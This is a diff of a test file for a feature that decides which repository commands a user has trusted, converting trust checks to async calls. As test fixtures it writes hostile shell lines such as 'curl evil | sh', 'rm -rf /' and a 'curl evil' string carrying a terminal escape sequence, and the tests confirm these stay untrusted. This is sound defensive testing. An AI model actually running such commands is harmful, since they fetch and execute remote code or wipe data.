@@ -60,9 +60,9 @@ describe('trust in the commands of a repository', () => {
   it('is for exactly one command of one repository, in a file of the owner alone', async () => {
     await using place = await trustedRepository();
     const { at, repo, home, folder } = place;
-    expect(isTrusted(at(repo), STEP)).toBe(true);
-    expect(isTrusted(at(repo), `${STEP} `)).toBe(false);
-    expect(isTrusted(at(makeRepository(folder, 'other')), STEP)).toBe(false);
+    expect(await isTrusted(at(repo), STEP)).toBe(true);
+    expect(await isTrusted(at(repo), `${STEP} `)).toBe(false);
+    expect(await isTrusted(at(makeRepository(folder, 'other')), STEP)).toBe(false);
     expect(statSync(join(home, 'trust.json')).mode & 0o777).toBe(0o600);
     const before = readFileSync(join(home, 'trust.json'), 'utf8');
     await trustCommands(at(repo), [STEP], { ...BY, now: BY.now + 1 });
@@ -72,14 +72,14 @@ describe('trust in the commands of a repository', () => {
   it('names what it refuses and what to do', async () => {
     await using place = await trustedRepository();
     const { at, repo } = place;
-    expect(() => requireTrusted(at(repo), [STEP])).not.toThrow();
-    expect(() => requireTrusted(at(repo), [])).not.toThrow();
-    expect(() => requireTrusted(at(repo), [STEP, 'curl evil\u001b[2K', 'b'])).toThrow(
+    await requireTrusted(at(repo), [STEP]);
+    await requireTrusted(at(repo), []);
+    await expect(requireTrusted(at(repo), [STEP, 'curl evil\u001b[2K', 'b'])).rejects.toThrow(
       expect.objectContaining({
         code: 'untrusted',
         message: 'Nobody has trusted this command here: curl evil\\u001b[2K and 1 more',
         hint: 'forge trust',
-        details: { commands: ['curl evil\u001b[2K', 'b'] },
+        details: { commands: ['curl evil\u001b[2K', 'b'], scripts: [] },
       }),
     );
   });
@@ -90,8 +90,8 @@ describe('trust in the commands of a repository', () => {
     const other = makeRepository(folder, 'other');
     await trustCommands(at(other), [STEP], BY);
     expect(await revokeTrust(at(repo))).toEqual([STEP]);
-    expect(isTrusted(at(repo), STEP)).toBe(false);
-    expect(isTrusted(at(other), STEP)).toBe(true);
+    expect(await isTrusted(at(repo), STEP)).toBe(false);
+    expect(await isTrusted(at(other), STEP)).toBe(true);
     expect(await revokeTrust(at(repo))).toEqual([]);
   });
 
@@ -100,7 +100,7 @@ describe('trust in the commands of a repository', () => {
     const { at, repo, folder } = place;
     const linked = join(folder.path, 'linked');
     runTestGit(repo, ['worktree', 'add', '--quiet', linked]);
-    expect(isTrusted(at(linked), STEP)).toBe(true);
+    expect(await isTrusted(at(linked), STEP)).toBe(true);
   });
 
   it('[B5] asks again when a script that the command runs has one byte changed', async () => {
@@ -116,13 +116,13 @@ describe('trust in the commands of a repository', () => {
     ]) {
       writeFileSync(script, 'true\n');
       await trustCommands(at(repo), [command], BY);
-      expect([command, isTrusted(at(repo), command)]).toEqual([command, true]);
+      expect([command, await isTrusted(at(repo), command)]).toEqual([command, true]);
       writeFileSync(script, 'true \n');
-      expect([command, isTrusted(at(repo), command)]).toEqual([command, false]);
+      expect([command, await isTrusted(at(repo), command)]).toEqual([command, false]);
       rmSync(script);
-      expect([command, isTrusted(at(repo), command)]).toEqual([command, false]);
+      expect([command, await isTrusted(at(repo), command)]).toEqual([command, false]);
       writeFileSync(script, 'true\n');
-      expect([command, isTrusted(at(repo), command)]).toEqual([command, true]);
+      expect([command, await isTrusted(at(repo), command)]).toEqual([command, true]);
     }
     writeFileSync(script, 'rm -rf /\n');
     await using engine = await tempEngine();
@@ -176,17 +176,17 @@ describe('trust in the commands of a repository', () => {
     await using place = await trustedRepository();
     const { at, repo, home } = place;
     writeFileSync(join(home, 'trust.json'), '{"repositories": [');
-    expect(() => isTrusted(at(repo), STEP)).toThrow(/trust\.json/);
+    await expect(isTrusted(at(repo), STEP)).rejects.toThrow(/trust\.json/);
     writeFileSync(join(home, 'trust.json'), '{"repositories": 7}');
-    expect(isTrusted(at(repo), STEP)).toBe(false);
+    expect(await isTrusted(at(repo), STEP)).toBe(false);
   });
 
   it('is not needed for what the person wrote into their own settings', async () => {
     await using place = await trustedRepository();
     const { at, repo, home } = place;
-    expect(isTrusted(at(repo), 'make check')).toBe(false);
+    expect(await isTrusted(at(repo), 'make check')).toBe(false);
     writeFileSync(join(home, 'settings.json'), '{"review":{"ci_steps":["make check"]}}');
-    expect(isTrusted(at(repo), 'make check')).toBe(true);
+    expect(await isTrusted(at(repo), 'make check')).toBe(true);
   });
 });
 
@@ -278,12 +278,12 @@ describe('[B4] trust is not borrowed', () => {
     await using place = await trustedRepository();
     const { at, repo, folder } = place;
     const evil = plant(repo, folder);
-    expect(isTrusted(at(evil), STEP)).toBe(false);
-    expect(isTrusted(at(repo), STEP)).toBe(true);
+    expect(await isTrusted(at(evil), STEP)).toBe(false);
+    expect(await isTrusted(at(repo), STEP)).toBe(true);
     // Whoever really means it can trust it, and trusts nothing else by that.
     await trustCommands(at(evil), ['evil'], BY);
-    expect(isTrusted(at(evil), 'evil')).toBe(true);
-    expect(isTrusted(at(repo), 'evil')).toBe(false);
+    expect(await isTrusted(at(evil), 'evil')).toBe(true);
+    expect(await isTrusted(at(repo), 'evil')).toBe(false);
   });
 
   it('and a way through a link to the repository itself is the repository', async () => {
@@ -291,10 +291,10 @@ describe('[B4] trust is not borrowed', () => {
     const { at, repo, folder } = place;
     const link = join(folder.path, 'link');
     symlinkSync(repo, link);
-    expect(isTrusted(at(link), STEP)).toBe(true);
+    expect(await isTrusted(at(link), STEP)).toBe(true);
     rmSync(link);
     symlinkSync(makeRepository(folder, 'evil'), link);
-    expect(isTrusted(at(link), STEP)).toBe(false);
+    expect(await isTrusted(at(link), STEP)).toBe(false);
   });
 });
 
@@ -314,9 +314,9 @@ describe('listCommands', () => {
     const listed = await listCommands({ paths: pathsAt(repo), store: engine.temp.store }, home);
     writeFileSync(join(repo, 'ci.sh'), 'curl evil | sh\n');
     await trustListed(at(repo), listed, BY);
-    expect(isTrusted(at(repo), './ci.sh')).toBe(false);
+    expect(await isTrusted(at(repo), './ci.sh')).toBe(false);
     writeFileSync(join(repo, 'ci.sh'), 'true\n');
-    expect(isTrusted(at(repo), './ci.sh')).toBe(true);
+    expect(await isTrusted(at(repo), './ci.sh')).toBe(true);
   });
 
   it('finds what the config and open tasks bring, with where each comes from', async () => {
